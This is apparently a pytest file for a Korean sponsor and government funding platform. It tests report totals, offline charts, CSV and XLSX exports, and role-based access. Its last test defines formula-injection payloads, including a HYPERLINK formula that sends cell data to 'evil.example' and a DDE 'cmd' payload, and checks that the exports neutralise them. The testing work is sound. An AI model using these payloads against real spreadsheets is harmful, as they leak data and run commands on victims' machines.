"""Sponsor and government programme reports: figures equal sums over the projects, charts, CSV, who sees them."""

from __future__ import annotations

import csv
import io
import re
from decimal import ROUND_HALF_UP, Decimal

import pytest
from sqlalchemy import select

from funds.models import COMMITTED_STATES, Project
from funds.reports.formats import GOVERNMENT_HEADERS, SPONSOR_HEADERS, sponsor_charts
from funds.reports.services import government_report, leverage, sponsor_report
from marketplace.auth.models import Role
from tests.conftest import log_in
from tests.factories import PASSWORD, make_programme, make_user
from tests.funds.making import make_project

TYPE_1 = 1
ULSAN = {"region": "ulsan", "industrial_complex": "ulsan", "category": "vision_quality"}


@pytest.fixture
def portfolio(app, db_session, world):
    """The world's sponsor with two programmes and projects in most states; a government-only project."""
    second = make_programme(app, db_session, world.sponsor.user, name="두 번째 프로그램", pledged_pool_krw=800_000_000)
    with app.test_request_context():
        make_project(db_session, world, "completed", cost_krw=90_000_000)
        make_project(db_session, world, "inspected", percent=50, cost_krw=70_000_000, need=ULSAN)
        make_project(db_session, world, "building", cost_krw=120_000_000, need=ULSAN, tier="advanced1")
        make_project(db_session, world, "agreed", cost_krw=60_000_000, programme_id=second.id)
        make_project(db_session, world, "selected", cost_krw=50_000_000, programme_id=second.id)
        make_project(db_session, world, "applied")
        make_project(db_session, world, "rejected")
        make_project(db_session, world, "cancelled", cost_krw=80_000_000)
        make_project(db_session, world, "completed", programme_id=None, government_programme_id=3, cost_krw=40_000_000)
    world.second = second
    return world


def _sponsor_money(project: Project) -> int:
    return project.sponsor_share_krw + (project.sme_share_krw if project.energy_preinvestment else 0)


def test_sponsor_figures_equal_sums_over_its_projects(app, db_session, portfolio):
    projects = db_session.scalars(
        select(Project).where(Project.sponsor_organisation_id == portfolio.sponsor.user.organisation_id)
    ).all()
    committed = [p for p in projects if p.status in COMMITTED_STATES]
    with app.test_request_context():
        report = sponsor_report(db_session, portfolio.sponsor.user, portfolio.sponsor.user.organisation_id)
    total = report.total
    assert total.pledged_krw == 5_000_000_000 + 800_000_000
    assert total.committed_krw == sum(_sponsor_money(p) for p in committed)
    assert total.remaining_krw == total.pledged_krw - total.committed_krw
    assert total.paid_in_krw == 0
    assert total.disbursed_krw == sum(_sponsor_money(p) for p in committed if p.status in ("inspected", "completed"))
    assert total.projects == len(projects) == 8
    government, sponsor = sum(p.government_share_krw for p in committed), sum(p.sponsor_share_krw for p in committed)
    expected = (Decimal(government) / Decimal(sponsor)).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
    assert total.leverage == expected
    by_programme = {row.programme_id: row for row in report.programmes}
    second_committed = [p for p in committed if p.programme_id == portfolio.second.id]
    assert by_programme[portfolio.second.id].committed_krw == sum(_sponsor_money(p) for p in second_committed)
    assert by_programme[portfolio.second.id].projects == 2
    assert dict(report.by_state) == {
        "applied": 1, "selected": 1, "agreed": 1, "designing": 0, "building": 1,
        "inspected": 1, "completed": 1, "rejected": 1, "cancelled": 1,
    }  # fmt: skip


def test_leverage_rounds_to_two_decimals_and_needs_sponsor_money():
    assert leverage(100, 300) == Decimal("0.33")
    assert leverage(200, 300) == Decimal("0.67")
    assert leverage(5, 0) is None


def test_government_figures_equal_sums_over_its_projects(app, db_session, portfolio):
    projects = db_session.scalars(select(Project).where(Project.government_programme_id == TYPE_1)).all()
    committed = [p for p in projects if p.status in COMMITTED_STATES]
    with app.test_request_context():
        report = government_report(db_session, portfolio.officer.user, TYPE_1, "en")
    assert report.budget_krw == 50_000_000_000
    assert report.committed_krw == sum(p.government_share_krw for p in committed)
    assert report.remaining_krw == report.budget_krw - report.committed_krw
    assert report.projects == len(projects) == 8
    regions = {item.code: item for item in report.breakdowns["region"]}
    ulsan = [p for p in committed if p.need.region == "ulsan"]
    assert regions["ulsan"].committed_krw == sum(p.government_share_krw for p in ulsan)
    assert regions["ulsan"].label == "Ulsan"
    assert sum(item.projects for item in report.breakdowns["category"]) == len(projects)
    assert sum(item.committed_krw for item in report.breakdowns["tier"]) == report.committed_krw
    tiers = {item.code: item.committed_projects for item in report.breakdowns["tier"]}
    assert tiers == {"basic": 3, "advanced1": 1}


def _browser(app, user):
    browser = app.test_client()
    assert log_in(browser, user.email, PASSWORD).status_code == 302
    return browser


@pytest.mark.parametrize("language", ["ko", "en"])
def test_the_sponsor_report_renders_with_offline_charts(app, portfolio, language):
    browser = _browser(app, portfolio.sponsor.user)
    page = browser.get(
        f"/reports/sponsors/{portfolio.sponsor.user.organisation_id}", headers={"Accept-Language": language}
    )
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert html.count("<svg") == 3  # committed and remaining, projects by state, KPI change
    assert ("약정" if language == "ko" else "Committed") in html
    assert "두 번째 프로그램" in html
    assert "https://" not in html
    assert "kozea" not in html.lower()
    assert set(re.findall(r"http://[^\"'\s<>]+", html)) <= {"http://www.w3.org/2000/svg"}
    assert html.count("<table") >= 3  # the programmes, and one table per chart


def test_sponsor_charts_carry_their_figures(app, db_session, portfolio):
    with app.test_request_context():
        report = sponsor_report(db_session, portfolio.sponsor.user, portfolio.sponsor.user.organisation_id)
        money, states = sponsor_charts(report)
    assert money.series[0][1] == [row.committed_krw for row in report.programmes]
    assert sum(states.series[0][1]) == report.total.projects
    assert "<script" not in money.svg
    assert "<!--" not in money.svg


@pytest.mark.parametrize("language", ["ko", "en"])
def test_the_government_report_renders_with_charts(app, portfolio, language):
    browser = _browser(app, portfolio.officer.user)
    page = browser.get(f"/reports/government/{TYPE_1}", headers={"Accept-Language": language})
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert html.count("<svg") == 3
    assert ("울산" if language == "ko" else "Ulsan") in html
    assert "https://" not in html


def test_csv_exports_have_a_bom_korean_headers_and_whole_won(app, portfolio):
    browser = _browser(app, portfolio.officer.user)
    organisation_id = portfolio.sponsor.user.organisation_id
    for path, headers in (
        (f"/reports/sponsors/{organisation_id}.csv", SPONSOR_HEADERS),
        (f"/reports/government/{TYPE_1}.csv", GOVERNMENT_HEADERS),
    ):
        response = browser.get(path)
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        body = response.get_data()
        assert body.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        assert tuple(rows[0]) == headers
        assert all(re.fullmatch(r"-?\d+", cell) for row in rows[1:] for cell in row[2:5] if cell)
    sponsor_rows = list(csv.reader(io.StringIO(browser.get(f"/reports/sponsors/{organisation_id}.csv").text[1:])))
    assert sponsor_rows[-1][0] == "합계"


SPONSOR_PATH, GOVERNMENT_PATH = "/reports/sponsors/{org}", "/reports/government/1"


@pytest.mark.parametrize(
    ("who", "sponsor_status", "government_status"),
    [
        ("own_sponsor", 200, 403),
        ("other_sponsor", 403, 403),
        ("officer", 200, 200),
        ("admin", 200, 200),
        ("sme", 403, 403),
        ("supplier", 403, 403),
        ("mentor", 403, 403),
    ],
)
def test_who_sees_which_report(app, db_session, portfolio, who, sponsor_status, government_status):
    users = {
        "own_sponsor": portfolio.sponsor.user,
        "officer": portfolio.officer.user,
        "sme": portfolio.sme.user,
        "supplier": portfolio.supplier.user,
    }
    roles = {"other_sponsor": Role.SPONSOR, "admin": Role.ADMIN, "mentor": Role.MENTOR}
    user = users.get(who) or make_user(app, db_session, roles[who])
    browser = _browser(app, user)
    org = portfolio.sponsor.user.organisation_id
    assert browser.get(SPONSOR_PATH.format(org=org)).status_code == sponsor_status
    assert browser.get(SPONSOR_PATH.format(org=org) + ".csv").status_code == sponsor_status
    assert browser.get(GOVERNMENT_PATH).status_code == government_status
    assert browser.get(GOVERNMENT_PATH + ".csv").status_code == government_status


def test_the_reports_index_and_nav(app, db_session, portfolio):
    sponsor = _browser(app, portfolio.sponsor.user)
    response = sponsor.get("/reports/")
    assert response.status_code == 302
    assert response.location.endswith(f"/reports/sponsors/{portfolio.sponsor.user.organisation_id}")
    officer = _browser(app, portfolio.officer.user)
    html = officer.get("/reports/", headers={"Accept-Language": "en"}).get_data(as_text=True)
    assert 'href="/reports/"' in html
    assert f"/reports/sponsors/{portfolio.sponsor.user.organisation_id}" in html
    assert "/reports/government/3" in html
    sme = _browser(app, portfolio.sme.user)
    assert sme.get("/reports/").location.endswith(f"/reports/sme/{portfolio.sme.user.organisation_id}")
    assert 'href="/reports/"' in sme.get("/dashboard").get_data(as_text=True)
    supplier = _browser(app, portfolio.supplier.user)
    assert supplier.get("/reports/").status_code == 403
    assert 'href="/reports/"' not in supplier.get("/dashboard").get_data(as_text=True)
    assert app.test_client().get("/reports/").status_code == 302  # to the log-in page


FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A2,"열기")', "＋cmd|' /C calc'!A0", "@SUM(1+1)*cmd")


def test_a_programme_named_like_a_formula_stays_text_in_the_officers_downloads(app, db_session, portfolio):
    from openpyxl import load_workbook

    for name in FORMULA_NAMES:
        make_programme(app, db_session, portfolio.sponsor.user, name=name, pledged_pool_krw=800_000_000)
    db_session.commit()
    browser = _browser(app, portfolio.officer.user)
    path = SPONSOR_PATH.format(org=portfolio.sponsor.user.organisation_id)
    rows = list(csv.reader(io.StringIO(browser.get(path + ".csv").text[1:])))
    names = {row[0] for row in rows[1:]}
    assert {"'" + name for name in FORMULA_NAMES} <= names
    book = load_workbook(io.BytesIO(browser.get(path + ".xlsx").get_data()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]  # openpyxl stores "=…" as a formula
    assert {"'" + name for name in FORMULA_NAMES} <= {cell.value for cell in cells}
